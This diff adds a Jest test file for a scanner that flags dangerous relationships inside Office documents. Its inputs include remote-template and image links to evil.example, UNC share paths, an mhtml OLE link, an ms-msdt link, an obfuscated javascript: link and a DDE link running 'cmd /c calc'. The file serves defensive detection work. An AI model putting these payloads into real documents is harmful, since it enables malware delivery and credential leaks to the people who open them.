@@ -1,0 +1,105 @@
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { docx, pptx, xlsx, type ZipEntry } from '../../../../tests/files';
+import { readPackage } from './ooxml';
+import { areHarmful } from './relationships';
+
+const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const STRICT = 'http://purl.oclc.org/ooxml/officeDocument/relationships';
+const EXTERNAL = ' TargetMode="External"';
+const relationship = (type: string, target: string, mode = EXTERNAL) => `<Relationship Id="r9" Type="${type}" Target="${target}"${mode}/>`;
+const rels = (...all: string[]) =>
+  `<?xml version="1.0" encoding="UTF-8"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all.join('')}</Relationships>`;
+
+let folder: string;
+beforeAll(async () => {
+  folder = await mkdtemp(join(tmpdir(), 'relationships-'));
+});
+afterAll(() => rm(folder, { recursive: true, force: true }));
+const look = async (bytes: Buffer) => {
+  const path = join(folder, 'file');
+  await writeFile(path, bytes);
+  return readPackage(path, bytes.length);
+};
+const inside = (name: string, ...all: string[]): ZipEntry => ({ name, data: rels(...all) });
+const HARMFUL = { kind: null, macros: false, harmful: true, isDamaged: false };
+
+describe('T20 the relationships of an Office file', () => {
+  it.each<[string, string, string, string?]>([
+    ['a template from elsewhere', `${OFFICE}/attachedTemplate`, 'https://evil.example/t.dotm'],
+    ['a template on a share', `${OFFICE}/attachedTemplate`, 'file:///\\\\evil.example\\t.dotm'],
+    ['a frame', `${OFFICE}/frame`, 'https://evil.example/'],
+    ['a subdocument', `${OFFICE}/subDocument`, 'part2.docx'],
+    ['a linked OLE object', `${OFFICE}/oleObject`, 'mhtml:https://evil.example/x!https://evil.example/x'],
+    ['an embedded OLE object', `${OFFICE}/oleObject`, 'embeddings/oleObject1.bin', ''],
+    ['an OLE object of the strict kind', `${STRICT}/oleObject`, 'embeddings/oleObject1.bin', ''],
+    ['an ActiveX control', `${OFFICE}/control`, 'activeX/activeX1.xml', ''],
+    ['a picture that is fetched', `${OFFICE}/image`, 'https://evil.example/pixel.png'],
+    ['a picture on a share', `${OFFICE}/image`, '\\\\evil.example\\pixel.png'],
+    ['a picture of another host', `${OFFICE}/image`, 'file://evil.example/pixel.png'],
+    ['a chunk from elsewhere', `${OFFICE}/aFChunk`, 'http://evil.example/x.html'],
+    ['a workbook from elsewhere', `${OFFICE}/externalLinkPath`, 'https://evil.example/x.xlsx'],
+    ['a link that runs something', `${OFFICE}/hyperlink`, 'ms-msdt:/id PCWDiagnostic'],
+    ['a link with a script', `${OFFICE}/hyperlink`, ' java\tscript:alert(1)'],
+    ['a target written in entities', `${OFFICE}/image`, '&#104;ttps&#x3a;//evil.example/pixel.png'],
+    ['a type written in entities', `${OFFICE}/attached&#84;emplate`, 'x.dotm'],
+  ])('T20 %s is harmful', async (_, type, target, mode = EXTERNAL) => {
+    const one = relationship(type, target, mode);
+    expect(await look(docx('text', inside('word/_rels/settings.xml.rels', one)))).toEqual(HARMFUL);
+    expect(await look(xlsx('1', inside('xl/worksheets/_rels/sheet1.xml.rels', one)))).toEqual(HARMFUL);
+    expect(await look(pptx(inside('ppt/slides/_RELS/slide1.xml.RELS', one)))).toEqual(HARMFUL);
+  });
+
+  it.each<[string, string, string, string?]>([
+    ['a link to a page', `${OFFICE}/hyperlink`, 'https://yarrowdyne.example/?a=1&amp;b=2'],
+    ['a link to a mail address', `${OFFICE}/hyperlink`, 'mailto:lena@yarrowdyne.example'],
+    ['a link to a file of the company', `${OFFICE}/hyperlink`, 'file:///\\\\server\\plans\\a.pdf'],
+    ['a link to a place in the file', `${OFFICE}/hyperlink`, '#Sheet1!A1'],
+    ['a picture in the file', `${OFFICE}/image`, 'media/image1.png', ''],
+    ['a picture of the own disk', `${OFFICE}/image`, 'file:///C:\\pictures\\a.png'],
+    ['a chart’s workbook in the file', `${OFFICE}/package`, '../embeddings/Microsoft_Excel_Sheet1.xlsx', ''],
+    ['a workbook beside the file', `${OFFICE}/externalLinkPath`, 'prices%202026.xlsx'],
+    ['a film that plays at a click', `${OFFICE}/video`, 'https://www.youtube.com/embed/x'],
+  ])('R5.2 %s is not', async (_, type, target, mode = EXTERNAL) => {
+    expect(await look(docx('text', inside('word/_rels/document.xml.rels', relationship(type, target, mode))))).toMatchObject({
+      kind: 'docx',
+      harmful: false,
+    });
+  });
+
+  it('T20 parts of OLE are harmful without a relationship too, and links of a workbook that start a program', async () => {
+    for (const name of ['word/embeddings/oleObject1.bin', 'word/activeX/activeX1.bin', 'word/Embeddings/x.BIN'])
+      expect([name, await look(docx('text', { name, data: 'x' }))]).toEqual([name, HARMFUL]);
+    const dde = {
+      name: 'xl/externalLinks/externalLink1.xml',
+      data: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
+    };
+    expect(await look(xlsx('1', dde))).toEqual(HARMFUL);
+    expect(await look(xlsx('1', { ...dde, data: '<externalLink><externalBook/></externalLink>' }))).toMatchObject({ kind: 'xlsx' });
+  });
+
+  it('T20 are read in every encoding and under every prefix, and what is not plain counts as harm', () => {
+    const bad = rels(relationship(`${OFFICE}/attachedTemplate`, 'https://evil.example/t.dotm'));
+    const good = rels(relationship(`${OFFICE}/hyperlink`, 'https://yarrowdyne.example/'));
+    const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
+    expect([areHarmful(Buffer.from(bad)), areHarmful(utf16(bad)), areHarmful(utf16(bad).swap16())]).toEqual([true, true, true]);
+    expect([areHarmful(Buffer.from(good)), areHarmful(utf16(good)), areHarmful(utf16(good).swap16())]).toEqual([false, false, false]);
+    expect(areHarmful(Buffer.from(bad.replaceAll('<Relationship ', '<p:Relationship ')))).toBe(true);
+    expect(areHarmful(Buffer.from(bad.replaceAll('"', "'")))).toBe(true);
+    expect(areHarmful(Buffer.from(`<!DOCTYPE a [<!ENTITY x "y">]>${good}`))).toBe(true);
+    expect(areHarmful(Buffer.from(good.replace('"/></', '></')))).toBe(true);
+  });
+
+  // With time that grew with the square of the length, each of them would take hours.
+  it('T20 are read in time that grows with their length alone', () => {
+    const length = 2 * 1024 * 1024;
+    const long = (text: string) => Buffer.from(text.repeat(Math.ceil(length / text.length)));
+    const within = (attributes: Buffer) => Buffer.concat([Buffer.from('<Relationship '), attributes, Buffer.from('/>')]);
+    expect(areHarmful(long('<!--'))).toBe(true);
+    expect(areHarmful(long('<!---->'))).toBe(false);
+    for (const attributes of ['a', ' ', 'a ', 'a:', 'a="b', 'a=\'"', '&a']) areHarmful(within(long(attributes)));
+    for (const text of ['<', '<a', '<a:Relationship ', '<Relationship "']) areHarmful(long(text));
+  });
+});
